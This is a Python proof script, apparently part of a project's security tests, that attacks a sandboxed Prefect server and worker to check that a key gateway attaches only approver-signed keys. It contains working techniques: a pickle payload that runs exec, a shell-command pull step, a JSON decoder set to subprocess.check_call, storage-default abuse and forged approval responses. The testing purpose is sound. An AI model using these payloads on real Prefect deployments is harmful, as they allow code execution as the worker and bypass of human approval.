"""What a writer to Prefect's API can do to a production machine with a gateway.

    python -m tests.proofs.prefect_attacks [SEED]

The machine is that of docs/operations.md (`tests.support.production`): a real server and worker,
and a gateway whose own user alone can read the Admin API credential. Each payload makes
Prefect execute `tests.support.payload` as the worker's user, or forges the response that a run
waits for. Only what the enrolled approver has signed by name may be attached: one workspace with
one key. The proof counts requests and attempts to write, and separately the files that were read.
It fails if no code was executed, or if the signed attach itself was not made.

It needs root, for namespaces and users; it leaves nothing behind, and does not reach beyond
loopback.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Final
from uuid import UUID

import httpx
from prefect._internal.result_records import ResultRecord, ResultRecordMetadata
from prefect.client.orchestration import SyncPrefectClient
from prefect.client.schemas.objects import FlowRun
from prefect.exceptions import PrefectHTTPStatusError
from prefect.filesystems import LocalFileSystem
from prefect.serializers import JSONSerializer, PickleSerializer
from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings

from cli import approvals
from cli.approvals import PendingApproval
from cli.local.processes import poll
from cmek.signatures.statement import SignedApproval, statement_for
from tests.support.payload import PLACE
from tests.support.production import PROJECT, Follower, blocks, environment_of, machine
from tests.support.requests import APPROVER

API: Final = "http://127.0.0.1:4200/api"
GATEWAY: Final = "http://127.0.0.1:4300"
HERE: Final = Path("/opt/cmek")
"""The project's folder on the machine."""
PYTHON: Final = str(HERE / ".venv/bin/python")
PAYLOAD: Final = HERE / "tests/support/payload.py"
INNER: Final = "--inside"
SECONDS: Final = 240.0
_FORGERIES: Final = ("typed", "garbage", "self-signed", "of another run", "parameters", "state")
"""Ways in which somebody who is not an approver answers a waiting run; each has its own run."""


class Pickled:
    """Executes the payload when it is unpickled."""

    def __init__(self, name: str) -> None:
        self._name = name

    def __reduce__(self) -> tuple[Any, ...]:
        code = f"{PAYLOAD.read_text()}\ndo_the_worst({self._name!r})"
        return exec, (code, {"__name__": "payload"})


class Attacker:
    """Has access to Prefect's API, and to a folder that the worker can read."""

    def __init__(self, client: SyncPrefectClient) -> None:
        self._client = client
        self.request: dict[str, object] = {}
        """Valid parameters of a run."""
        self.tries = 0
        self.files = 0
        self.problems: list[str] = []

    def call(self, method: str, path: str, body: object = None) -> httpx.Response:
        """Make any call of Prefect's API."""
        self.tries += 1
        try:
            return self._client._client.request(method, path, json=body)
        except PrefectHTTPStatusError as error:
            return error.response

    def start(self, deployment: str, **parameters: object) -> UUID:
        """Start a run of a deployment, without the check of its parameters."""
        found = self._client.read_deployment_by_name(deployment)
        body = {"parameters": parameters, "enforce_parameter_schema": False}
        made = self.call("POST", f"/deployments/{found.id}/create_flow_run", body)
        return UUID(made.raise_for_status().json()["id"])

    def by_pull_step(self) -> None:
        """A deployment of the attacker's, whose pull step is a shell command."""
        flow = self.call("POST", "/flows/", {"name": "forged"}).raise_for_status().json()
        command = f"{PYTHON} {PAYLOAD} pull-step"
        self.call(
            "POST",
            "/deployments/",
            {
                "name": "forged",
                "flow_id": flow["id"],
                "work_pool_name": "cmek",
                "entrypoint": "flows.check:check_prerequisites_only",
                "path": str(HERE),
                "pull_steps": [{"prefect.deployments.steps.run_shell_script": {"script": command}}],
            },
        ).raise_for_status()
        self.start("forged/forged")

    def by_pickled_state(self) -> None:
        """A state whose data names a pickled record, set on a run while its process starts."""
        metadata = ResultRecordMetadata(
            storage_key=str(PLACE / "pickled"), serializer=PickleSerializer()
        )
        self._record("pickled", metadata, Pickled("pickled-state"))
        self._complete_with(metadata.model_dump(mode="json", serialize_as_any=True))

    def by_import_path(self) -> None:
        """The same with JSON, whose decoder is an import path, in the folder of a storage block."""
        block = self._storage_block()
        metadata = ResultRecordMetadata(
            storage_key="decoded",
            serializer=JSONSerializer(object_decoder="subprocess.check_call"),
            storage_block_id=block,
        )
        # the decoder gets this dictionary; subprocess takes its keys for the words of a command
        command = {PYTHON: 0, str(PAYLOAD): 0, "import-path": 0}
        self._record("decoded", metadata, command)
        self._complete_with(metadata.model_dump(mode="json", serialize_as_any=True))

    def by_default_storage(self) -> None:
        """A pickled record in the storage that `PUT /admin/storage` made the default."""
        block = self._storage_block()
        put = {"default_result_storage_block_id": str(block)}
        self.call("PUT", "/admin/storage", put).raise_for_status()
        metadata = ResultRecordMetadata(storage_key="default", serializer=PickleSerializer())
        self._record("default", metadata, Pickled("default-storage"))
        self._complete_with(metadata.model_dump(mode="json", serialize_as_any=True))

    def _record(self, name: str, metadata: ResultRecordMetadata, result: object) -> None:
        path = PLACE / name
        path.write_bytes(ResultRecord(metadata=metadata, result=result).serialize())
        path.chmod(0o644)

    def _storage_block(self) -> UUID:
        return UUID(str(LocalFileSystem(basepath=str(PLACE)).save("red", overwrite=True)))

    def _complete_with(self, data: object) -> None:
        run = self.start("check-prerequisites/prerequisites", request=self.request)
        state = {"type": "COMPLETED", "data": data}

        # only a process that is starting loads the result of a completed state
        def starting() -> bool | None:
            return self._client.read_flow_run(run).state_name == "Pending" or None

        if poll(starting, seconds=SECONDS) is None:
            self.problems.append(f"run {run} did not start")
        self.call("POST", f"/flow_runs/{run}/set_state", {"state": state, "force": True})

    def forge(self, kind: str, pending: PendingApproval, other: PendingApproval) -> None:
        """Answer a waiting run without being an approver."""
        run = pending.run.id
        answer: dict[str, object] = {
            "decision": "approve",
            pending.workspace_field: pending.workspace,
            "approver": APPROVER,
            "comment": "fine",
            "plan_digest": pending.plan_digest,
            "acknowledge_warnings": True,
        }
        if kind == "garbage":
            answer["signed_approvals"] = "please"
        elif kind == "self-signed":
            answer["signed_approvals"] = str(_signed(pending, PLACE / "eve"))
        elif kind == "of another run":
            answer["signed_approvals"] = (PLACE / "approval").read_text()
        elif kind == "parameters":
            given = pending.run.parameters
            request = given["request"] | {"workspace": other.workspace}
            self.call("PATCH", f"/flow_runs/{run}", {"parameters": {**given, "request": request}})
            answer["signed_approvals"] = (PLACE / "approval").read_text()
        elif kind == "state":
            stored = json.dumps(answer | {"signed_approvals": (PLACE / "approval").read_text()})
            key = pending.keyset["response"]
            self.call("POST", f"/flow_runs/{run}/input", {"key": key, "value": stored})
            forced = {"type": "SCHEDULED", "name": "Resuming"}
            self.call("POST", f"/flow_runs/{run}/set_state", {"state": forced, "force": True})
            return
        self.call("POST", f"/flow_runs/{run}/resume", {"run_input": answer})


def _signed(pending: PendingApproval, key: Path) -> SignedApproval:
    return approvals.sign(pending.approval_request, APPROVER, "fine", key)


def attack(follower: Follower) -> dict[str, Any]:
    """Set up the machine as the page says, make all attacks, and judge what was attached."""
    for block in blocks("operations.md", "One machine"):
        if "cmek onboard" in block.text:
            break
        follower.follow(block)
    PLACE.mkdir()
    PLACE.chmod(0o1777)
    login = environment_of(Path("/etc/cmek/worker.env"))["PREFECT_API_AUTH_STRING"]
    client = SyncPrefectClient(API, auth_string=login, httpx_settings={"trust_env": False})
    with temporary_settings({PREFECT_API_URL: API, PREFECT_API_AUTH_STRING: login}), client:
        attacker = Attacker(client)
        waiting = list(_waiting(follower, attacker, client))
        approved, *others = waiting
        _give_what_an_api_writer_sees(follower, approved)
        ways = (
            ("pull-step", attacker.by_pull_step),
            ("pickled-state", attacker.by_pickled_state),
            ("import-path", attacker.by_import_path),
            ("default-storage", attacker.by_default_storage),
        )
        executed = [_executed(name, way, attacker) for name, way in ways]
        for kind, pending in zip(_FORGERIES, others, strict=True):
            attacker.forge(kind, pending, approved)
        for kind, pending in zip(_FORGERIES, others, strict=True):
            _settled(client, pending, kind, attacker)
    return _judged(follower, attacker, approved, executed)


def _waiting(
    follower: Follower, attacker: Attacker, client: SyncPrefectClient
) -> Iterator[PendingApproval]:
    """One run that an approver signs, and one for each forgery."""
    runs = []
    for number in range(len(_FORGERIES) + 1):
        made = follower.admin("POST", "workspaces", {"name": f"payments {number}"})["id"]
        request = {
            "workspace": made,
            "project_id": follower.sandbox.project_id,
            "requested_by": "ada@example.com",
        }
        attacker.request = request
        runs.append(attacker.start("onboard-workspace/onboard", request=request))
    for run in runs:
        yield approvals.wait_for_pending(client, run, seconds=SECONDS)


def _give_what_an_api_writer_sees(follower: Follower, approved: PendingApproval) -> None:
    """Store a genuine approval, as Prefect would, and a key pair of the attacker's own."""
    command = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(PLACE / "eve")]
    subprocess.run(command, check=True)
    approval = str(_signed(approved, Path("/home/operator/.ssh/id_ed25519")))
    seen = {
        "gateway": GATEWAY,
        "upstream": follower.sandbox.http,
        "own_key": approved.approval_request.plan.key_name.rpartition("/")[0] + "/mine",
        "approvals": [approval],
    }
    for name, text in (("approval", approval), ("seen.json", json.dumps(seen))):
        (PLACE / name).write_text(text)
        (PLACE / name).chmod(0o644)


def _executed(name: str, way: Callable[[], None], attacker: Attacker) -> dict[str, Any] | None:
    """Make one attack; returns the payload's results, or None when it was not executed."""
    way()
    done = PLACE / f"{name}.done"
    if poll(lambda: done.exists() or None, seconds=SECONDS) is None:
        return None
    found: dict[str, Any] = json.loads(done.read_text())
    attacker.tries += found["tries"]
    attacker.files += found["files"]
    attacker.problems += [f"{name}: {one}" for one in found["problems"]]
    return found | {"name": name}


def _settled(
    client: SyncPrefectClient, pending: PendingApproval, kind: str, attacker: Attacker
) -> None:
    """Wait until the forged response was accepted or refused."""

    def settled() -> FlowRun | None:
        run = client.read_flow_run(pending.run.id)
        state = run.state
        return run if state and (state.is_paused() or state.is_final()) else None

    if poll(settled, seconds=SECONDS) is None:
        attacker.problems.append(f"{kind}: the run neither waits nor has ended")


def _judged(
    follower: Follower,
    attacker: Attacker,
    approved: PendingApproval,
    executed: list[dict[str, Any] | None],
) -> dict[str, Any]:
    """Compare every workspace that has a key now with what the approver has signed."""
    signed = statement_for(
        approved.approval_request,
        approver=APPROVER,
        decision="approve",
        comment="fine",
        at=datetime.now(UTC),
    )
    listed = follower.admin("GET", "workspaces?limit=100&include_archived=true")["data"]
    attached = {one["id"]: one["external_key_id"] for one in listed if one["external_key_id"]}
    ran = {one["name"]: one["uid"] for one in executed if one is not None}
    by_name = {str(signed.workspace_id): signed.external_key_id}
    problems = [*attacker.problems, *verdict(attached, by_name, ran)]
    return {
        "tried": attacker.tries,
        "files": attacker.files,
        "executed": sorted(ran),
        "problems": problems,
    }


def verdict(
    attached: Mapping[str, str], signed: Mapping[str, str], ran: Mapping[str, int]
) -> Iterator[str]:
    """The problems; a pure function.

    Args:
        attached: Workspaces and their external keys, afterwards.
        signed: Those that the approver has signed.
        ran: Payloads that were executed, and the user id of each.
    """
    for workspace, key in attached.items():
        if signed.get(workspace) != key:
            yield f"{workspace} has {key}, which no approver has signed"
    if not signed.items() <= attached.items():
        yield f"the signed attach was not made: {dict(attached)}"
    if "pull-step" not in ran:
        yield "no pull step was executed, so nothing was tried as the worker"
    yield from (f"executed as root: {name}" for name, uid in ran.items() if uid == 0)


def main() -> None:
    """Run inside new namespaces; the last line of the output is the result as JSON."""
    if INNER in sys.argv:
        with machine() as follower:
            found = attack(follower)
        sys.stdout.write(json.dumps(found) + "\n")
        return
    if os.geteuid() != 0:
        raise SystemExit("needs root, for namespaces and users of its own")
    namespaces = ("--mount", "--net", "--pid", "--fork", "--mount-proc", "--kill-child")
    command = ["unshare", *namespaces, sys.executable, "-m", "tests.proofs.prefect_attacks", INNER]
    home = {"PATH": os.environ["PATH"], "HOME": "/root", "DO_NOT_TRACK": "1", "LANG": "C.UTF-8"}
    started = time.monotonic()
    done = subprocess.run(command, cwd=PROJECT, env=home, stdin=subprocess.DEVNULL, check=False)
    sys.stderr.write(f"{time.monotonic() - started:.0f} s\n")
    raise SystemExit(done.returncode)


if __name__ == "__main__":
    main()
